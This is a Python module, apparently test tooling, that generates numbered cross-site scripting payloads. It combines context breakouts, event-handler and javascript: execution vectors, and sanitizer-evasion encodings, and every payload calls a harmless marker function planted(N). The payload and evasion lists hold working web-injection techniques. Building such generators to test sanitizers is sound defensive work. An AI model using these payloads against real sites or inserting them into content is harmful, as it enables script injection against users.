"""A grammar of scripts that somebody might plant: ways out of a place, ways to run something, ways to hide it.

Every payload calls `planted(N)` with its own number N, so that what ran, or what was shown as text, can be told by number.
"""

import itertools
from collections.abc import Callable, Iterator
from urllib.parse import quote

MARK = "planted"
OUT = (
    "", "\">", "'>", "`>", "-->", "]]>", "*/", "</textarea>", "</title>", "</script>", "</style>", "</noscript>", "</template>",
    "</select>", "</svg>", "</option>", "\" ", "' ", "</a>", "\\\">", "}}", "{% raw %}",
)  # fmt: skip
"""Ways out of where the words stand: text, a quoted attribute, a comment, an element whose content is not markup."""
RUN = (
    "<script>{}</script>", "<script src=data:,{}></script>", "<img src=x onerror={}>", "<svg onload={}>", "<svg><script>{}</script>",
    "<body onload={}>", "<iframe srcdoc=\"<script>parent.{}</script>\">", "<iframe src=\"javascript:{}\">", "<a href=\"javascript:{}\">go</a>",
    "<details open ontoggle={}>", "<input autofocus onfocus={}>", "<video><source onerror={}>", "<audio src=x onerror={}>",
    "<object data=\"javascript:{}\">", "<embed src=\"javascript:{}\">", "<form action=\"javascript:{}\"><button>go", "<style onload={}></style>",
    "<math><mtext><img src=x onerror={}>", "<select autofocus onfocus={}>", "<x tabindex=1 autofocus onfocus={}>", "<template><img src=x onerror={}></template>",
    "<button popovertarget=p onclick={}>go", "<meta http-equiv=refresh content=\"0;url=javascript:{}\">", "<base href=\"javascript:{}//\">",
    "<link rel=stylesheet href=x onerror={}>", "<animate onbegin={} attributeName=x>", "<svg><animate onbegin={} attributeName=x dur=1s>",
    "onmouseover={} x=", "autofocus onfocus={} x=", "style=\"animation-name:x\" onanimationstart={} x=", "[go](javascript:{})", "![x](x \"onerror={}\")",
    "<javascript:{}>", "[x]: javascript:{}", "{{{{{}}}}}", "${{{}}}", "<%= {} %>", "';{}//", "\";{}//", "`-{}-`",
)  # fmt: skip
CALL = (
    "planted({})", "top.planted({})", "window['planted']({})", "(0,planted)({})", "[{}].map(planted)", "self?.planted?.({})",
    "Reflect.apply(planted,0,[{}])", "setTimeout('planted({})')",
)  # fmt: skip


def _entities(text: str) -> str:
    return text.replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


HIDE: tuple[Callable[[str], str], ...] = (
    lambda text: text,
    lambda text: "".join(char.upper() if at % 2 else char for at, char in enumerate(text)).replace("PlAnTeD", MARK).replace("pLaNtEd", MARK),
    lambda text: text.replace("<", "<<", 1),
    lambda text: text.replace("<s", "<<script>s", 1),
    lambda text: text.replace(" on", "/on").replace("img ", "img/"),
    lambda text: text.replace("=", " = "),
    lambda text: text.replace(" on", "\non"),
    _entities,
    lambda text: text.replace("<", "&#60;").replace(">", "&#x3e;"),
    lambda text: text.replace("<", "\\u003c").replace(">", "\\x3e"),
    lambda text: quote(text, safe="()"),
    lambda text: text.replace("javascript:", "java&Tab;script&colon;"),
    lambda text: text.replace("<", "＜").replace(">", "＞"),
    lambda text: f"**{text}**",
    lambda text: f"`{text}`",
    lambda text: f"> {text}",
)  # fmt: skip


def payloads(count: int) -> Iterator[str]:
    """So many different ones, each the words of one line or two; every part of the grammar is among them."""
    parts = (len(OUT), len(RUN), len(CALL), len(HIDE))
    seen: set[tuple[int, ...]] = set()
    for number in itertools.count():
        if len(seen) == count:
            return
        # Steps that share no factor with the lengths: every part comes round, each time in other company.
        chosen = tuple(
            (number * step + number // size) % size for step, size in zip((1, 3, 5, 7), parts, strict=True)
        )
        if chosen not in seen:
            seen.add(chosen)
            out, run, call, hide = (one[at] for one, at in zip((OUT, RUN, CALL, HIDE), chosen, strict=True))
            yield hide(out + run.format(call.format(len(seen) - 1)))
